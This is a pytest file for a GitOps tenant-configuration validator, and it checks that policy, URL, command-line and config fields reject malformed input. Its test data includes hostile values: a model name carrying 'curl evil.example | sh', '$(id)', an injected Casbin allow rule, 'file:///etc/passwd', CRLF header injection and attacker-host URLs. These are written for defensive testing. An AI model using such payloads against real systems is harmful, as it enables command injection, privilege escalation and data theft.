"""Hole 5: every value that lands in a policy, a URL, a command line or a config file has a strict grammar."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.model.conftest import load, problems_of, set_field

CASBIN = "admins\np, role:x, *, *, */*, allow"
GROUP_RULE = ("is not an OIDC group name; use 1-128 letters, digits and '._@:/-', starting with a letter, digit "
              "or '/' (no spaces, commas, quotes or wildcards)")
TEXT_RULE = "contains control or invisible characters ({}); use one line of plain text"
URL_PATH_RULE = ("is not an absolute URL path; use '/' followed by segments of letters, digits and '._~-' (no '//', "
                 "'?', '#', '..', '@' or spaces), e.g. '/mcp'")
ISSUER_RULE = ("is not an OIDC issuer URL; use https://<host name>[:port][/path] with no user name, fragment, spaces "
               "or '..', e.g. 'https://login.example.com/realms/staff'")
LOGO_RULE = ("is not an https URL; use https://<host name>[:port][/path] with an optional query, no user name, "
             "fragment, spaces or '..', e.g. 'https://cdn.example.com/logo.png'")


def refused(data: Path, file: str, field: str, value: object) -> list[str]:
    set_field(data / file, field, value)
    return problems_of(data)


@pytest.mark.parametrize("group", [
    CASBIN, "a,b", 'a"b', "a b", "*", "admins*", " admins", "admins\r", "a\tb", "#admins", "(admins)", "",
    "a" * 129,
])
def test_argocd_groups(own_data: Path, group: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", "oidc.argocd_groups[0]", group) == [
        f"tenants/alpha.yaml: oidc.argocd_groups[0]: {group!r} {GROUP_RULE}"]


@pytest.mark.parametrize("group", ["role:admin", "proj:tenant-beta:tenant-operators", "Role:Admin"])
def test_argocd_groups_that_look_like_roles(own_data: Path, group: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", "oidc.argocd_groups[0]", group) == [
        f"tenants/alpha.yaml: oidc.argocd_groups[0]: {group!r} starts like an Argo CD role ('role:', 'proj:'); "
        "name the OIDC group itself"]


@pytest.mark.parametrize("group", ["alpha-admins", "8c3f2b1e-0000-4000-8000-000000000001", "/platform/admins",
                                   "ops@alpha.example.test", "team.alpha_ops"])
def test_argocd_groups_accepted(own_data: Path, group: str) -> None:
    set_field(own_data / "tenants/alpha.yaml", "oidc.argocd_groups[0]", group)
    assert load(own_data).tenants[0].oidc.argocd_groups == [group]


@pytest.mark.parametrize("path", [
    "@evil.example:443/mcp", "//evil.example/mcp", "mcp", "/mcp?x=1", "/mcp#frag", "/a/../mcp", "/./mcp", "/m cp",
    "/mcp\n", "/mcp\x00", "/a//b", "/%2e%2e/mcp", "/mcp@evil.example", "/mcp:80", "", "/" + "a" * 200,
    "\\\\evil.example/mcp",
])
def test_mcp_path(own_data: Path, path: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", "mcp_servers[0].path", path) == [
        f"tenants/alpha.yaml: mcp_servers[0].path: {path!r} {URL_PATH_RULE}"]


@pytest.mark.parametrize("url", [
    "http://login.alpha.example.test", "https://user@login.alpha.example.test/", "https://evil.example\\@good.test/",
    "https://login.alpha.example.test/realms/staff?x=1", "https://login.alpha.example.test/#x",
    "https://login.alpha.example.test/a/../b", "https://login.alpha.example.test/realm s",
    "https://login.alpha.example.test/\nrealms", "https://10.0.0.1/", "https://localhost/", "https:///realms",
    "https://login.alpha.example.test:99999/", "https://Login.Alpha.example.test/", "https://-bad.example.test/",
])
def test_issuer_url(own_data: Path, url: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", "oidc.issuer_url", url) == [
        f"tenants/alpha.yaml: oidc.issuer_url: {url!r} {ISSUER_RULE}"]


@pytest.mark.parametrize("url", ["javascript:alert(1)", "https://cdn.example.test/logo.png#x",
                                 "https://cdn.example.test@evil.example/logo.png", "https://cdn.example.test/lo go.png",
                                 "data:image/png;base64,AAAA", "//cdn.example.test/logo.png"])
def test_logo_url(own_data: Path, url: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", "branding.logo_url", url) == [
        f"tenants/alpha.yaml: branding.logo_url: {url!r} {LOGO_RULE}"]


def test_logo_url_may_carry_a_query(own_data: Path) -> None:
    set_field(own_data / "tenants/alpha.yaml", "branding.logo_url", "https://cdn.example.test/logo.png?v=2&size=64")
    assert load(own_data).tenants[0].branding.logo_url == "https://cdn.example.test/logo.png?v=2&size=64"


@pytest.mark.parametrize(("value", "message"), [
    ("openid  email", "is not a list of OAuth scopes; separate up to 20 scopes of letters, digits and '._:/-' by "
                      "single spaces, e.g. 'openid email profile'"),
    ("openid email\nprofile", "is not a list of OAuth scopes; separate up to 20 scopes of letters, digits and "
                              "'._:/-' by single spaces, e.g. 'openid email profile'"),
    ("openid,email", "is not a list of OAuth scopes; separate up to 20 scopes of letters, digits and '._:/-' by "
                     "single spaces, e.g. 'openid email profile'"),
    ("email profile", "lacks the 'openid' scope OIDC login needs; add it, e.g. 'openid email profile'"),
])
def test_scopes(own_data: Path, value: str, message: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", "oidc.scopes", value) == [
        f"tenants/alpha.yaml: oidc.scopes: {value!r} {message}"]


@pytest.mark.parametrize(("field", "value", "hidden"), [
    ("name", "Alpha\np, role:x, *, *, */*, allow", "U+000A"),
    ("branding.display_name", "Alpha\u202eChat", "U+202E"),
    ("oidc.provider_name", "SSO\r\nSet-Cookie: x=1", "U+000A, U+000D"),
    ("mcp_servers[0].description", "wiki\u2028search", "U+2028"),
    ("name", "Alpha\x1b[31mLtd", "U+001B"),
])
def test_free_text_is_one_plain_line(own_data: Path, field: str, value: str, hidden: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", field, value) == [
        f"tenants/alpha.yaml: {field}: {value!r} " + TEXT_RULE.format(hidden)]


@pytest.mark.parametrize(("field", "value", "bounds"), [
    ("name", "", "1 to 100"), ("name", "A" * 101, "1 to 100"), ("branding.display_name", "B" * 65, "1 to 64"),
    ("oidc.provider_name", "", "1 to 64"), ("mcp_servers[0].description", "d" * 301, "0 to 300"),
])
def test_free_text_length(own_data: Path, field: str, value: str, bounds: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", field, value) == [
        f"tenants/alpha.yaml: {field}: {value!r} has {len(value)} characters; use {bounds}"]


def test_free_text_is_trimmed(own_data: Path) -> None:
    assert refused(own_data, "tenants/alpha.yaml", "name", " Alpha") == [
        "tenants/alpha.yaml: name: ' Alpha' starts or ends with whitespace; remove it"]


@pytest.mark.parametrize(("field", "value", "message"), [
    ("models.local[0]", "qwen3:8b; curl evil.example | sh",
     "is not an Ollama model name; use [namespace/]name[:tag] in lowercase letters, digits and '._-', e.g. 'qwen3:8b'"),
    ("models.local[0]", "$(id)", "is not an Ollama model name; use [namespace/]name[:tag] in lowercase letters, "
                                 "digits and '._-', e.g. 'qwen3:8b'"),
    ("models.local[0]", "-rf", "is not an Ollama model name; use [namespace/]name[:tag] in lowercase letters, "
                               "digits and '._-', e.g. 'qwen3:8b'"),
    ("models.external[0]", "gpt-4o\n  api_key: x", "is not a model name; use 1-128 letters, digits and '._:/@-', "
                                                   "starting with a letter or digit, e.g. 'gpt-4o-mini'"),
    ("billing.lago_customer_id", "alpha\"}", "is not a billing id; use 1-100 letters, digits and '._-', starting "
                                              "with a letter or digit, e.g. 'acme'"),
    ("billing.plan", "../plans", "is not a billing id; use 1-100 letters, digits and '._-', starting with a letter "
                                 "or digit, e.g. 'acme'"),
    ("aws.region", "eu-west-1\n", "is not an AWS region; write it as AWS does, e.g. 'eu-central-1'"),
    ("aws.region", "EU-WEST-1", "is not an AWS region; write it as AWS does, e.g. 'eu-central-1'"),
    ("aws.s3_bucket", "alpha..data", "is not an S3 bucket name; use 3-63 lowercase letters, digits, '-' and '.' "
                                     "(no '..', not an IP address), e.g. 'acme-genai-data'"),
    ("aws.s3_bucket", "10.0.0.1", "is not an S3 bucket name; use 3-63 lowercase letters, digits, '-' and '.' "
                                  "(no '..', not an IP address), e.g. 'acme-genai-data'"),
    ("aws.s3_bucket", "alpha-data\n", "is not an S3 bucket name; use 3-63 lowercase letters, digits, '-' and '.' "
                                       "(no '..', not an IP address), e.g. 'acme-genai-data'"),
    ("oidc.client_id", "open webui", "is not an OAuth client id; use 1-255 letters, digits and '._~:@/+=-', "
                                     "starting with a letter or digit"),
])
def test_identifiers(own_data: Path, field: str, value: str, message: str) -> None:
    assert refused(own_data, "tenants/alpha.yaml", field, value) == [
        f"tenants/alpha.yaml: {field}: {value!r} {message}"]


@pytest.mark.parametrize(("field", "value", "message"), [
    ("clusters[1].argocd.server", "https://evil.example@shared.eks.example.test",
     "is not an API server URL; use https://<host name>[:port][/path] with no user name, fragment, spaces or '..', "
     "e.g. 'https://ABC123.gr7.eu-west-1.eks.amazonaws.com'"),
    ("clusters[1].argocd.server", "https://shared.eks.example.test\n",
     "is not an API server URL; use https://<host name>[:port][/path] with no user name, fragment, spaces or '..', "
     "e.g. 'https://ABC123.gr7.eu-west-1.eks.amazonaws.com'"),
    ("gitops.repo_url", "https://evil.example@git.example.test/x.git",
     "is not a Git repository URL; use https://<host>/<path>, ssh://git@<host>/<path> or git@<host>:<path> "
     "(no password, query, spaces or '..')"),
    ("gitops.repo_url", "https://git.example.test/x.git?ref=evil",
     "is not a Git repository URL; use https://<host>/<path>, ssh://git@<host>/<path> or git@<host>:<path> "
     "(no password, query, spaces or '..')"),
    ("gitops.repo_url", "file:///etc/passwd",
     "is not a Git repository URL; use https://<host>/<path>, ssh://git@<host>/<path> or git@<host>:<path> "
     "(no password, query, spaces or '..')"),
    ("gitops.revision", "main\n", "is not a Git branch, tag or commit; use letters, digits and '._/-' "
                                  "(no '..' or '//'), e.g. 'main'"),
    ("gitops.revision", "a..b", "is not a Git branch, tag or commit; use letters, digits and '._/-' "
                                "(no '..' or '//'), e.g. 'main'"),
    ("clusters[1].capabilities.ingress.domain", "shared.example.test/evil",
     "is not a DNS name; use lowercase labels separated by dots, e.g. 'genai.example.com'"),
    ("clusters[1].capabilities.ingress.domain", "*.example.test",
     "is not a DNS name; use lowercase labels separated by dots, e.g. 'genai.example.com'"),
    ("clusters[1].capabilities.ingress.class_name", "nginx\"",
     "is not a DNS label; use 1-63 lowercase letters, digits and '-', starting and ending with a letter or digit"),
    ("clusters[1].capabilities.gpu_node_pools[0].taints[0].key", "nvidia.com/gpu\neffect",
     "is not a Kubernetes label key; use [prefix/]name: a DNS-subdomain prefix and a 1-63 character name of "
     "letters, digits and '-_.', e.g. 'nvidia.com/gpu.present'"),
    ("clusters[1].capabilities.gpu_node_pools[0].taints[0].value", "true false",
     "is not a Kubernetes label value; use up to 63 letters, digits and '-_.', starting and ending with a letter "
     "or digit, e.g. 'true'"),
    ("clusters[1].capabilities.gpu_node_pools[0].gpu_resource", "gpu",
     "is not an extended resource name; use <vendor domain>/<name>, e.g. 'nvidia.com/gpu'"),
    ("clusters[1].region", "eu west 1", "is not an AWS region; write it as AWS does, e.g. 'eu-central-1'"),
])
def test_cluster_fields(own_data: Path, field: str, value: str, message: str) -> None:
    assert refused(own_data, "clusters.yaml", field, value) == [f"clusters.yaml: {field}: {value!r} {message}"]


def test_gpu_label_keys_and_values(own_data: Path) -> None:
    set_field(own_data / "clusters.yaml", "clusters[1].capabilities.gpu_node_pools[0].labels",
              {"bad key!": "true", "nvidia.com/gpu.present": "yes\nno"})
    rule_key = ("is not a Kubernetes label key; use [prefix/]name: a DNS-subdomain prefix and a 1-63 character name "
                "of letters, digits and '-_.', e.g. 'nvidia.com/gpu.present'")
    rule_value = ("is not a Kubernetes label value; use up to 63 letters, digits and '-_.', starting and ending with a "
                  "letter or digit, e.g. 'true'")
    assert problems_of(own_data) == [
        f"clusters.yaml: clusters[1].capabilities.gpu_node_pools[0].labels.bad key!.[key]: 'bad key!' {rule_key}",
        "clusters.yaml: clusters[1].capabilities.gpu_node_pools[0].labels.nvidia.com/gpu.present: 'yes\\nno' "
        + rule_value]


def test_every_grammar_answers_a_long_hostile_value_at_once() -> None:
    """No grammar can be made to backtrack: a tenant field of a few hundred characters must not hang the
    check (a field-path pattern with nested repeats took minutes on 'a' * 100 + '!')."""
    import contextlib
    import time
    import typing

    from pydantic import TypeAdapter, ValidationError

    from genai_gitops.model import base, grammar

    types = {name: value for module in (base, grammar) for name, value in vars(module).items()
             if typing.get_origin(value) is typing.Annotated}
    assert len(types) > 25
    for name, annotated in types.items():
        adapter = TypeAdapter(annotated)
        for unit in ("a", "a.", "a-", "a/", "0", "a_", "a:", "a[0]", "1."):
            began = time.perf_counter()
            with contextlib.suppress(ValidationError):
                adapter.validate_python(unit * 400 + "!")
            assert time.perf_counter() - began < 0.5, f"{name} on {unit!r} * 400"
